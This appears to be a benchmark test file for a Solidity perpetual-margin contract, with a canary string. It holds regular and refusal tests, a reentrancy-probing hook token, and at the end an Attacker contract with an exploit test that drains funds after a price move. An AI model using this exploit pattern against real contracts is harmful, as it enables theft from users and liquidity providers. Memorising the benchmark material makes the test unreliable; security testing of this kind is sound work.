// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./PerpMargin.sol";

// assay-canary-fca81a3d-5ecc-4ed3-b1bf-85f0ebc166c8

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Dollar is ERC20("USD", "USD") {
    address private minter = msg.sender;
    bool private taxed;

    function mint(address to, uint256 a) external {
        require(msg.sender == minter, "minter");
        _mint(to, a);
    }

    function tax() external {
        require(msg.sender == minter, "minter");
        taxed = true;
    }

    function _afterTokenTransfer(address from, address to, uint256 a) internal override {
        if (taxed && from != address(0) && to != address(0)) _burn(to, a / 100);
    }
}

// tries all calls again in each call of perp that moves it
contract Hook is ERC20("HOOK", "HOOK") {
    address private minter = msg.sender;
    address private perp;
    bytes[] private calls;
    bool private inside;

    function mint(address to, uint256 a) external {
        require(msg.sender == minter, "minter");
        _mint(to, a);
    }

    function add(bytes calldata c) external {
        calls.push(c);
    }

    function enter(address p) external {
        perp = p;
        _approve(address(this), p, type(uint256).max);
        for (uint256 i; i < calls.length; i++) {
            (bool ok, bytes memory r) = p.call(calls[i]);
            if (!ok) {
                assembly {
                    revert(add(r, 32), mload(r))
                }
            }
        }
    }

    function _afterTokenTransfer(address, address, uint256) internal override {
        if (inside) return;
        inside = true;
        bytes32 locked = keccak256(abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call"));
        for (uint256 i; i < calls.length; i++) {
            (bool ok, bytes memory r) = perp.call(calls[i]);
            require(!ok, "entered");
            require(keccak256(r) == locked, "refused for another reason");
        }
        inside = false;
    }
}

contract Feed is IFeed {
    address private setter = msg.sender;
    uint256 private price;
    uint256 private at;

    function set(uint256 p) external {
        require(msg.sender == setter, "setter");
        price = p;
        at = block.timestamp;
    }

    function latest() external view returns (uint256, uint256) {
        return (price, at);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Dollar public dollar;
    Feed internal feed;
    PerpMargin internal perp;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1_800_000_000);
        dollar = new Dollar();
        feed = new Feed();
        feed.set(3_000e18);
        perp = new PerpMargin(dollar, feed, 0);
        dollar.mint(address(this), 1_000_000e18);
        dollar.approve(address(perp), type(uint256).max);
        perp.fund(500_000e18);
        give(ANA, 50_000e18);
        give(BEN, 50_000e18);
        mallory = new Attacker(perp, dollar);
        dollar.mint(address(mallory), 2_000e18);
        mallory.open(2_000e18, 10_000e18);
        feed.set(1_000e18);
        dollar.mint(address(mallory), 12_000e18);
    }

    function give(address who, uint256 a) internal {
        dollar.mint(who, a);
        vm.prank(who);
        dollar.approve(address(perp), type(uint256).max);
    }

    function test_Regular() public {
        feed.set(2_000e18);
        vm.startPrank(ANA);
        perp.increase(true, 1_000e18, 5_000e18);
        require(perp.positionOf(ANA, true).margin == 995e18 && perp.reserved() == 15_000e18, "opened");
        perp.increase(true, 0, 1_000e18);
        require(perp.positionOf(ANA, true).avg == 2_000e18 && perp.positionOf(ANA, true).size == 6_000e18, "more");
        perp.addMargin(true, 106e18);
        perp.takeMargin(true, 100e18);
        require(perp.positionOf(ANA, true).margin == 1_000e18 && perp.leverageOf(ANA, true) == 6e18, "six times");
        vm.stopPrank();
        vm.prank(BEN);
        perp.increase(false, 1_000e18, 4_000e18);
        feed.set(2_200e18);
        require(perp.equityOf(ANA, true) == 1_600e18 && perp.equityOf(BEN, false) == 596e18, "a tenth each");
        require(perp.equityOf(BEN, true) == 0 && perp.leverageOf(BEN, true) == 0, "nothing");
        vm.prank(ANA);
        perp.decrease(true, 3_000e18);
        require(perp.positionOf(ANA, true).margin == 1_297e18, "half of the gain");
        vm.prank(ANA);
        perp.decrease(true, 3_000e18);
        require(dollar.balanceOf(ANA) == 50_588e18, "all of it");
        vm.prank(BEN);
        perp.decrease(false, 1_000e18);
        require(perp.positionOf(BEN, false).margin == 895e18, "a loss");

        perp.setRate(1e10);
        vm.warp(block.timestamp + 1_000_000);
        feed.set(2_400e18);
        require(perp.indexNow() == 1e16, "one per cent");
        require(perp.equityOf(BEN, false) == 265e18, "less carry");
        feed.set(2_560e18);
        uint256 before = dollar.balanceOf(BEN);
        vm.prank(ANA);
        perp.liquidate(BEN, false);
        require(dollar.balanceOf(ANA) == 50_603e18 && dollar.balanceOf(BEN) == before + 10e18, "bounty and rest");
        require(perp.reserved() == 10_000e18, "one is left");
        perp.defund(1_000e18);
        require(perp.free() == perp.pool() - 10_000e18, "free");
        perp.setPaused(true);
        perp.setPaused(false);
        perp.transferOwnership(ANA);
        vm.prank(ANA);
        perp.acceptOwnership();
        vm.prank(ANA);
        perp.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        perp.fund(1);
        vm.expectRevert("Ownable: caller is not the owner");
        perp.defund(1);
        vm.expectRevert("Ownable: caller is not the owner");
        perp.setRate(1);
        vm.expectRevert("Ownable: caller is not the owner");
        perp.setPaused(true);
        vm.expectRevert("Ownable: caller is not the owner");
        perp.transferOwnership(ANA);
        vm.expectRevert("Ownable2Step: caller is not the new owner");
        perp.acceptOwnership();
        vm.expectRevert("Ownable: caller is not the owner");
        perp.renounceOwnership();
        vm.stopPrank();
    }

    function test_RefusesOwner() public {
        vm.expectRevert(Ledger.Zero.selector);
        new PerpMargin(IERC20(address(0)), feed, 0);
        vm.expectRevert(Ledger.Zero.selector);
        new PerpMargin(dollar, IFeed(address(0)), 0);
        vm.expectRevert(Fees.HighRate.selector);
        new PerpMargin(dollar, feed, 1e11 + 1);
        vm.expectRevert(Fees.HighRate.selector);
        perp.setRate(1e11 + 1);
        uint256 free = perp.free();
        vm.expectRevert(Ledger.Reserved.selector);
        perp.defund(free + 1);
        perp.setPaused(true);
        vm.prank(ANA);
        vm.expectRevert(PerpMargin.Paused.selector);
        perp.increase(true, 1_000e18, 1_000e18);
    }

    function test_RefusesPrices() public {
        feed.set(0);
        vm.expectRevert(Ledger.BadPrice.selector);
        perp.px();
        feed.set(1);
        vm.warp(block.timestamp + 1 days + 1);
        vm.expectRevert(Ledger.StalePrice.selector);
        perp.px();
    }

    function test_RefusesTax() public {
        dollar.tax();
        vm.prank(ANA);
        vm.expectRevert(Ledger.Short.selector);
        perp.increase(true, 1_000e18, 1_000e18);
    }

    // Carry is paid before any gain is booked.
    function test_RefusesToForgiveCarry() public {
        vm.prank(ANA);
        perp.increase(true, 1_000e18, 5_000e18);
        feed.set(2_000e18);
        uint256 m = perp.positionOf(ANA, true).margin;
        vm.prank(ANA);
        perp.takeMargin(true, m);
        perp.setRate(1e10);
        vm.warp(block.timestamp + 1_000_000);
        feed.set(2_000e18);
        vm.prank(ANA);
        vm.expectRevert(PerpMargin.Thin.selector);
        perp.decrease(true, 5_000e18);
        vm.startPrank(ANA);
        perp.addMargin(true, 50e18);
        perp.decrease(true, 5_000e18);
        vm.stopPrank();
        require(perp.positionOf(ANA, true).size == 0, "closed");
    }

    function test_RefusesTrades() public {
        vm.startPrank(ANA);
        vm.expectRevert(PerpMargin.Small.selector);
        perp.increase(true, 100e18, 10e18 - 1);
        vm.expectRevert(Ledger.Reserved.selector);
        perp.increase(true, 50_000e18, 495_000e18);
        vm.expectRevert(PerpMargin.Thin.selector);
        perp.increase(true, 1_000e18, 10_000e18);
        vm.expectRevert(PerpMargin.Thin.selector);
        perp.increase(true, 1, 1_000e18);
        vm.expectRevert(PerpMargin.None.selector);
        perp.addMargin(true, 1);
        vm.expectRevert(PerpMargin.None.selector);
        perp.takeMargin(true, 0);
        vm.expectRevert(PerpMargin.None.selector);
        perp.liquidate(ANA, true);
        perp.increase(true, 1_000e18, 5_000e18);
        vm.expectRevert(PerpMargin.Small.selector);
        perp.decrease(true, 0);
        vm.expectRevert(PerpMargin.TooMuch.selector);
        perp.decrease(true, 5_000e18 + 1);
        vm.expectRevert(PerpMargin.Small.selector);
        perp.decrease(true, 4_995e18);
        vm.expectRevert(PerpMargin.Thin.selector);
        perp.takeMargin(true, 496e18);
        vm.expectRevert(PerpMargin.Thin.selector);
        perp.takeMargin(true, 996e18);
        vm.expectRevert(PerpMargin.Sound.selector);
        perp.liquidate(ANA, true);
        vm.stopPrank();
        feed.set(800e18);
        vm.startPrank(ANA);
        vm.expectRevert(PerpMargin.Thin.selector);
        perp.decrease(true, 5_000e18);
        vm.expectRevert(PerpMargin.Thin.selector);
        perp.decrease(true, 10e18);
        vm.stopPrank();
        feed.set(700e18);
        vm.prank(ANA);
        vm.expectRevert(PerpMargin.Thin.selector);
        perp.decrease(true, 5_000e18);
    }

    function test_RefusesReentry() public {
        Hook h = new Hook();
        dollar = Dollar(address(h));
        perp = new PerpMargin(dollar, feed, 0);
        give(address(this), 100_000e18);
        perp.fund(100_000e18);
        give(BEN, 1_000e18);
        vm.prank(BEN);
        perp.increase(true, 1_000e18, 5_000e18);
        feed.set(830e18);
        h.mint(address(h), 10_000e18);
        h.add(abi.encodeCall(perp.increase, (true, 1_000e18, 5_000e18)));
        h.enter(address(perp));
        h.add(abi.encodeCall(perp.addMargin, (true, 1e18)));
        h.add(abi.encodeCall(perp.takeMargin, (true, 1e18)));
        h.add(abi.encodeCall(perp.decrease, (true, 10e18)));
        h.add(abi.encodeCall(perp.liquidate, (BEN, true)));
        perp.transferOwnership(address(h));
        vm.prank(address(h));
        perp.acceptOwnership();
        h.add(abi.encodeCall(perp.fund, (1e18)));
        h.add(abi.encodeCall(perp.defund, (1e18)));
        h.enter(address(perp));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(mallory)) >= 24_000e18, "nothing was gained");
    }

    function target() public view returns (address) {
        return address(perp);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PerpMargin internal perp;
    IERC20 internal usd;
    address internal maker = msg.sender;

    constructor(PerpMargin p, IERC20 u) {
        perp = p;
        usd = u;
    }

    function open(uint256 m, uint256 s) external {
        require(msg.sender == maker, "maker");
        usd.approve(address(perp), type(uint256).max);
        perp.increase(false, m, s);
    }

    function run() external {
        perp.increase(false, usd.balanceOf(address(this)), 90_000e18);
        perp.decrease(false, 100_000e18);
    }
}
